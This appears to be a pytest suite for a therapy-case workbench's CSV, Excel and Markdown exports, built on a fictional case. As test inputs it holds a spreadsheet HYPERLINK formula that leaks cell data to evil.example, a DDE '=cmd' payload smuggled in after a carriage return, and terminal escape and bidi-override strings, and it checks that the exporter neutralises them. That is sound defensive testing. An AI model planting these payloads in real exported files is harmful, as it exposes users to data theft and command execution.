"""CSV, Excel and Markdown exports read back with pandas and keep the analysis tables."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from workbench._text import safe_text
from workbench.analysis.narrative import narrative_markdown
from workbench.analysis.tables import analysis_tables
from workbench.errors import InvalidValue
from workbench.export.markdown import write_markdown
from workbench.export.tables import TABLES, export_tables, write_csv, write_csv_folder, write_excel
from workbench.model import Formulation

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def formulation() -> Formulation:
    f = Formulation.new(case_id="C-017", title="Ärger & <Angst>", clinician="T. Rainee", fictional=True)
    past = f.add_element(
        "early_experience", "Father often absent", confidence=0.7, status="supported",
        evidence=[{"session": 2, "date": "2024-03-18", "quote": "He never came."}, {"session": 5}],
    )
    fear = f.add_element("unconscious_fear", FORMULA, evidence=[{"session": 3, "quote": "@SUM(1+1)"}])
    symptom = f.add_element("present_symptom", "Streit über Nähe — „immer allein“\x01")
    strength = f.add_element("strength", "-loyal friends")
    f.add_link(past, fear, "gives_rise_to", weight=0.8, evidence=[{"session": 4, "quote": "so alone"}])
    f.add_link(fear, symptom, "expressed_as")
    f.add_link(strength, symptom, "protects_against")
    f.add_comment("Check session 4", author="supervisor", target=past)
    return f


def test_export_tables_are_the_analysis_tables_plus_comments(formulation: Formulation) -> None:
    tables = export_tables(formulation)
    assert tuple(tables) == TABLES
    for name, table in analysis_tables(formulation).items():
        pd.testing.assert_frame_equal(tables[name], table)
    assert tables["comments"]["text"].tolist() == ["Check session 4"]


def test_excel_has_one_sheet_per_table_and_reads_back(formulation: Formulation, tmp_path: Path) -> None:
    path = write_excel(formulation, tmp_path / "case.xlsx")
    sheets = pd.read_excel(path, sheet_name=None)
    assert list(sheets) == ["Case", "Elements", "Links", "Evidence", "Sessions", "Strength", "Comments"]
    case = dict(zip(sheets["Case"]["field"], sheets["Case"]["value"], strict=True))
    assert case["case_id"] == "C-017" and case["title"] == "Ärger & <Angst>"
    expected = export_tables(formulation)
    elements = sheets["Elements"]
    assert elements["id"].tolist() == expected["elements"]["id"].tolist()
    assert elements["kind"].tolist() == expected["elements"]["kind"].tolist()
    labels = elements["label"].tolist()
    assert labels[1] == FORMULA  # stored as text, not run as a formula
    assert labels[2] == "Streit über Nähe — „immer allein“\ufffd"
    assert labels[3] == "-loyal friends"
    assert elements["evidence_count"].tolist() == [2, 1, 0, 0]
    evidence = sheets["Evidence"]
    assert evidence["session"].tolist() == [2, 3, 4, 5]
    assert evidence["quote"].fillna("").tolist() == ["He never came.", "@SUM(1+1)", "so alone", ""]
    strength = sheets["Strength"].set_index("label")
    assert strength.loc["Father often absent", "out_strength"] == pytest.approx(0.8)
    assert strength.loc["Father often absent", "role"] == "driver"
    assert strength.loc["-loyal friends", "out_strength"] == pytest.approx(-1.0)
    assert sheets["Links"]["verb"].tolist() == ["gives rise to", "is expressed as", "protects against"]
    # no cell in the workbook is a formula
    book = openpyxl.load_workbook(path)
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    assert book["Elements"].freeze_panes == "A2"


def test_csv_one_table_round_trip(formulation: Formulation, tmp_path: Path) -> None:
    path = write_csv(formulation, tmp_path / "links.csv", table="links", spreadsheet_safe=False)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    back = pd.read_csv(path, encoding="utf-8-sig")
    expected = export_tables(formulation)["links"]
    assert back["id"].tolist() == expected["id"].tolist()
    assert back["source_label"].tolist() == expected["source_label"].tolist()
    assert back["weight"].tolist()[0] == pytest.approx(0.8)


def test_csv_is_spreadsheet_safe_by_default(formulation: Formulation, tmp_path: Path) -> None:
    back = pd.read_csv(write_csv(formulation, tmp_path / "e.csv"), encoding="utf-8-sig")
    labels = back["label"].tolist()
    assert labels[0] == "Father often absent"  # ordinary text unchanged
    assert labels[1] == "'" + FORMULA
    assert labels[3] == "'-loyal friends"
    raw = pd.read_csv(write_csv(formulation, tmp_path / "raw.csv", spreadsheet_safe=False),
                      encoding="utf-8-sig")
    assert raw["label"].tolist()[1] == FORMULA


def test_csv_folder_writes_every_table(formulation: Formulation, tmp_path: Path) -> None:
    paths = write_csv_folder(formulation, tmp_path / "tables")
    assert [p.name for p in paths] == [f"{name}.csv" for name in TABLES]
    evidence = pd.read_csv(tmp_path / "tables" / "evidence.csv", encoding="utf-8-sig")
    assert evidence["session"].tolist() == [2, 3, 4, 5]
    assert evidence["quote"].tolist()[1] == "'@SUM(1+1)"


def test_unknown_table_is_a_clear_error(formulation: Formulation, tmp_path: Path) -> None:
    with pytest.raises(InvalidValue, match=r"no table 'people'.*elements, links"):
        write_csv(formulation, tmp_path / "x.csv", table="people")


def test_markdown_file_is_the_narrative(formulation: Formulation, tmp_path: Path) -> None:
    path = write_markdown(formulation, tmp_path / "case.md")
    text = path.read_text(encoding="utf-8")
    assert text == safe_text(narrative_markdown(formulation), keep="\n\t").rstrip("\n") + "\n"
    assert "Father often absent" in text
    assert "<Angst>" not in text  # the narrative escapes user text


# --- hostile text: formula injection through line breaks, terminal escapes --------------------

CR_INJECTION = "see notes\r=cmd|' /C calc'!A0"
LF_INJECTION = "first line\n+SUM(1,1)\r\n@A1\n\t-2"


def _injected() -> Formulation:
    f = Formulation.new(case_id="C-9", title="Injection")
    f.add_element("early_experience", "Father often absent", description=CR_INJECTION)
    f.add_element("unconscious_fear", "Fear of being left", description=LF_INJECTION)
    return f


def _rows_as_a_spreadsheet_reads_them(path: Path) -> list[list[str]]:
    """Rows split where a spreadsheet splits them: at CR, LF or CRLF outside quotes."""
    with path.open(encoding="utf-8-sig", newline="") as file:  # no newline translation
        return list(csv.reader(file))


@pytest.mark.parametrize("spreadsheet_safe", [True, False])
def test_csv_quotes_every_cell_holding_a_carriage_return(tmp_path: Path, spreadsheet_safe: bool) -> None:
    path = write_csv(_injected(), tmp_path / "e.csv", spreadsheet_safe=spreadsheet_safe)
    rows = _rows_as_a_spreadsheet_reads_them(path)
    assert len(rows) == 3  # the header and one row per element: no row started inside a cell
    assert {len(row) for row in rows} == {len(rows[0])}
    described = rows[0].index("description")
    if not spreadsheet_safe:
        assert [row[described] for row in rows[1:]] == [CR_INJECTION, LF_INJECTION]


def test_csv_neutralises_formulas_at_every_line_start_inside_a_cell(tmp_path: Path) -> None:
    rows = _rows_as_a_spreadsheet_reads_them(write_csv(_injected(), tmp_path / "e.csv"))
    described = rows[0].index("description")
    cells = [row[described] for row in rows[1:]]
    assert cells == ["see notes\r'=cmd|' /C calc'!A0", "first line\n'+SUM(1,1)\r\n'@A1\n'\t-2"]
    for cell in (c for row in rows for c in row):
        for line in re.split(r"\r\n|\r|\n", cell):
            assert not line.startswith(("=", "+", "-", "@", "\t")), (cell, line)


def test_excel_keeps_injected_lines_as_text_in_one_cell(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write_excel(_injected(), tmp_path / "case.xlsx"))
    sheet = book["Elements"]
    header = [c.value for c in sheet[1]]
    column = header.index("description") + 1
    cells = [sheet.cell(row=r, column=column) for r in (2, 3)]
    as_xml_reads_it = [re.sub(r"\r\n?", "\n", text) for text in (CR_INJECTION, LF_INJECTION)]
    assert [c.value for c in cells] == as_xml_reads_it  # the whole text, in its one cell
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    assert sheet.max_row == 3


def test_markdown_export_strips_terminal_escapes_nul_bel_and_bidi_overrides(tmp_path: Path) -> None:
    f = Formulation.new(case_id="C-9", title="Escapes")
    f.add_element("early_experience", "Father\x1b[2J\x1b]0;owned\x07 often absent\x00",
                  description="safe\u202etxt.exe\u2066 and \x9b31m")
    text = write_markdown(f, tmp_path / "case.md").read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)
    assert "Father" in text and "often absent" in text and "txt.exe" in text
    assert "\n" in text  # lines are kept
